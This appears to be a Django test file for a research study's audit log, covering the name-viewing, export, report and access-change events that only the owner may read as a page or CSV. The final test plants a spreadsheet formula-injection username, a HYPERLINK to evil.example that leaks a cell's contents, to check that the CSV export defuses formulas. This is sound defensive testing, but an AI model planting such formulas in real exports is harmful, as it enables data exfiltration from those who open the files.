"""The audit log: who saw names, exported, reported or changed access, read by the owner alone on
the study's audit page and as CSV."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from web.conftest import client_for, make_user

from placelab.web.studies.models import AuditEvent, Membership, RunFile
from placelab.web.studies.services.audit import audit_record


def events(study, action: str | None = None) -> list[tuple[str, str, str]]:
    """(who, action, detail) of the study's events, oldest first."""
    found = AuditEvent.objects.filter(study=study).order_by("at", "pk")
    if action:
        found = found.filter(action=action)
    return list(found.values_list("username", "action", "detail"))


def url(name: str, study, *rest) -> str:
    return reverse(f"studies:{name}", args=[study.pk, *rest])


# --- seeing names -------------------------------------------------------------------------------


def test_an_analyst_browsing_names_is_one_event_an_hour_listing_the_pages(
    analyst_client, analysed, study
):
    for _ in range(3):
        assert analyst_client.get(url("analysis", study, 1)).status_code == 200
    assert analyst_client.get(url("map", study, 1)).status_code == 200
    assert analyst_client.get(url("analysis", study, 1) + "?network=work").status_code == 200

    assert events(study, AuditEvent.SAW_NAMES) == [
        ("andy_analyst", "saw_names", "Opened the analysis of wave 1; the map of wave 1")
    ]


def test_names_read_as_json_are_recorded_too_and_a_viewers_are_not(
    analyst_client, viewer_client, analysed, study
):
    result = reverse("api:analysis_result", args=[study.pk, 1])
    map_data = reverse("api:map_data", args=[study.pk, 1])
    assert viewer_client.get(result).status_code == 200
    assert viewer_client.get(map_data).status_code == 200
    assert events(study) == []

    assert analyst_client.get(result).status_code == 200
    for _ in range(2):  # the browser map asks again at each change of view
        assert analyst_client.get(map_data + "?network=work").status_code == 200

    assert events(study, AuditEvent.SAW_NAMES) == [
        ("andy_analyst", "saw_names", "Opened the analysis of wave 1 as JSON; the map of wave 1")
    ]


def test_after_an_hour_seeing_names_is_recorded_again(analyst_client, analysed, study):
    analyst_client.get(url("map", study, 1))
    earlier = timezone.now() - datetime.timedelta(hours=1, minutes=1)
    AuditEvent.objects.filter(study=study).update(at=earlier)

    analyst_client.get(url("map", study, 1))

    assert [e[2] for e in events(study, AuditEvent.SAW_NAMES)] == ["Opened the map of wave 1"] * 2


def test_each_user_and_study_has_its_own_event(owner_client, analyst_client, analysed, study):
    owner_client.get(url("analysis", study, 1))
    analyst_client.get(url("analysis", study, 1))

    assert {e[0] for e in events(study, AuditEvent.SAW_NAMES)} == {"olive_owner", "andy_analyst"}


def test_a_viewer_sees_no_names_and_leaves_no_such_event(viewer_client, analysed, study):
    for name in ("analysis", "map", "responses"):
        assert viewer_client.get(url(name, study, 1)).status_code == 200

    assert events(study) == []


def test_an_analyst_on_the_responses_page_sees_no_names_and_leaves_no_event(analyst_client, study):
    assert analyst_client.get(url("responses", study, 1)).status_code == 200

    assert events(study) == []


def test_the_owner_opening_the_roster_and_who_has_not_answered_is_recorded(owner_client, study):
    assert owner_client.get(url("roster", study)).status_code == 200
    assert owner_client.get(url("responses", study, 1)).status_code == 200

    assert events(study) == [
        ("olive_owner", "saw_names", "Opened the roster; the responses to wave 1")
    ]


def test_an_analysis_page_with_no_finished_analysis_shows_no_names_and_records_nothing(
    analyst_client, study
):
    assert analyst_client.get(url("analysis", study, 1)).status_code == 200

    assert events(study) == []


# --- exports and reports ------------------------------------------------------------------------


def test_downloading_the_waves_data_is_recorded(analyst_client, analysed, study):
    response = analyst_client.get(url("wave_export", study, 1))

    assert response.status_code == 200
    assert events(study, AuditEvent.EXPORTED) == [
        (
            "andy_analyst",
            "exported",
            "Downloaded wave 1's answers with names (people.csv, ties.csv, answers.csv)",
        )
    ]


def test_a_download_for_gephi_or_excel_is_recorded_once_written(analyst_client, analysed, study):
    xlsx = url("analysis_xlsx", study, 1)
    assert analyst_client.get(xlsx)["Content-Type"].startswith("text/html")  # queued: a page
    assert events(study, AuditEvent.EXPORTED) == []
    _report_ready(analysed, RunFile.FULL, RunFile.XLSX)

    assert analyst_client.get(xlsx).status_code == 200

    assert events(study, AuditEvent.EXPORTED) == [
        ("andy_analyst", "exported", "Downloaded wave 1's analysis with names (Excel workbook)")
    ]


def _report_ready(run, variant: str, format: str) -> None:
    """As the worker leaves a file it has written (the writing itself: test_reports.py)."""
    content = b"<!doctype html><p>report</p>" if format == "html" else b"%PDF-1.7 file"
    run.files.update_or_create(
        variant=variant, format=format,
        defaults={"status": RunFile.DONE, "content": content, "size": len(content), "step": "done"},
    )  # fmt: skip


def test_a_report_download_is_recorded_with_its_variant(
    owner_client, viewer_client, analysed, study
):
    _report_ready(analysed, RunFile.FULL, RunFile.PDF)
    _report_ready(analysed, RunFile.PSEUDONYMISED, RunFile.HTML)
    report = url("report_html", study, 1)

    assert owner_client.get(url("report_pdf", study, 1)).status_code == 200
    assert viewer_client.get(report).status_code == 200
    assert owner_client.get(report + "?variant=pseudonymised").status_code == 200

    assert events(study, AuditEvent.REPORTED) == [
        ("olive_owner", "reported", "Downloaded wave 1's report with names (PDF)"),
        ("vera_viewer", "reported", "Downloaded wave 1's report pseudonymised (HTML)"),
        ("olive_owner", "reported", "Downloaded wave 1's report pseudonymised (HTML)"),
    ]


def test_a_report_still_being_written_is_not_recorded_as_downloaded(owner_client, analysed, study):
    page = owner_client.get(url("report_pdf", study, 1))

    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    assert events(study, AuditEvent.REPORTED) == []


# --- access -------------------------------------------------------------------------------------


def test_granting_changing_and_taking_away_access_is_recorded(owner_client, study):
    make_user("newcomer")
    for role in ("viewer", "analyst"):
        owner_client.post(url("access", study), {"email": "newcomer@example.org", "role": role})
    membership = Membership.objects.get(study=study, user__username="newcomer")
    owner_client.post(url("access_revoke", study, membership.pk))

    # Colleagues are named by the address they were given access by, whether or not an account
    # had it before (issue 11: the log says nothing the access page does not).
    assert events(study) == [
        ("olive_owner", "granted", "Gave newcomer@example.org viewer access"),
        ("olive_owner", "granted", "Gave newcomer@example.org analyst access"),
        ("olive_owner", "revoked", "Took away newcomer@example.org's analyst access"),
    ]


# --- the owner's page ---------------------------------------------------------------------------


def test_the_owner_reads_the_log_newest_first_in_plain_words(owner_client, study):
    make_user("newcomer")
    owner_client.post(url("access", study), {"email": "newcomer@example.org", "role": "viewer"})
    owner_client.get(url("roster", study))

    page = owner_client.get(url("audit", study))

    assert page.status_code == 200
    text = page.content.decode()
    assert text.index("Saw names") < text.index("Granted access")  # newest first
    assert "Opened the roster" in text and "Gave newcomer@example.org viewer access" in text
    assert "saw_names" not in text.split("<select")[0]  # labels, not codes, above the filter


def test_the_log_shows_local_time(owner_client, study):
    event = audit_record(user=None, study=study, action=AuditEvent.RETAINED, detail="Answers")
    AuditEvent.objects.filter(pk=event.pk).update(
        at=datetime.datetime(2026, 7, 1, 9, 30, tzinfo=datetime.UTC)
    )

    text = owner_client.get(url("audit", study)).content.decode()

    assert "1 Jul 2026, 10:30" in text  # British Summer Time
    assert "placelab (automatic)" in text


def test_the_log_filters_by_action(owner_client, study):
    audit_record(user=None, study=study, action=AuditEvent.RETAINED, detail="kept one")
    audit_record(user=None, study=study, action=AuditEvent.DELETED, detail="gone one")

    text = owner_client.get(url("audit", study) + "?action=deleted").content.decode()

    assert "gone one" in text and "kept one" not in text
    unknown = owner_client.get(url("audit", study) + "?action=<b>nonsense</b>").content.decode()
    assert "gone one" in unknown and "kept one" in unknown


def test_the_log_pages_by_fifty(owner_client, study, owner):
    AuditEvent.objects.bulk_create(
        AuditEvent(study=study, username="olive_owner", action=AuditEvent.EXPORTED, detail=f"n{i}")
        for i in range(120)
    )

    first = owner_client.get(url("audit", study))
    third = owner_client.get(url("audit", study) + "?page=3")

    assert len(first.context["events"]) == 50 and len(third.context["events"]) == 20
    assert "Page 1 of 3" in first.content.decode() and "Older" in first.content.decode()


def test_the_log_holds_only_this_studys_events(owner, owner_client, study):
    from web.conftest import build_study

    other = build_study(owner, locality="Hilltop")
    audit_record(user=owner, study=other, action=AuditEvent.EXPORTED, detail="Hilltop's data")

    assert "Hilltop's data" not in owner_client.get(url("audit", study)).content.decode()
    assert "Hilltop's data" not in owner_client.get(url("audit_csv", study)).content.decode()


@pytest.mark.parametrize("persona", ["analyst_client", "viewer_client", "outsider_client"])
def test_only_the_owner_reads_the_log(request, study, persona):
    client = request.getfixturevalue(persona)

    assert client.get(url("audit", study)).status_code == 404
    assert client.get(url("audit_csv", study)).status_code == 404


def test_the_csv_holds_every_event_and_runs_no_formula(owner_client, study):
    hostile = make_user('=HYPERLINK("http://evil.example/?x="&A1)')
    Membership.objects.create(study=study, user=hostile, role=Membership.ANALYST)
    client_for(hostile).get(url("wave_export", study, 1))
    audit_record(user=None, study=study, action=AuditEvent.DELETED, detail="+SUM(1,2)")

    response = owner_client.get(url("audit_csv", study))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "riverside-secondary-education-audit-log.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert rows[0] == ["when", "who", "what", "detail"]
    assert [r[1:3] for r in rows[1:]] == [
        ["placelab (automatic)", "Deleted"],
        ['\'=HYPERLINK("http://evil.example/?x="&A1)', "Exported data"],
    ]
    assert rows[1][3] == "'+SUM(1,2)"
    assert rows[1][0].endswith(("GMT", "BST"))
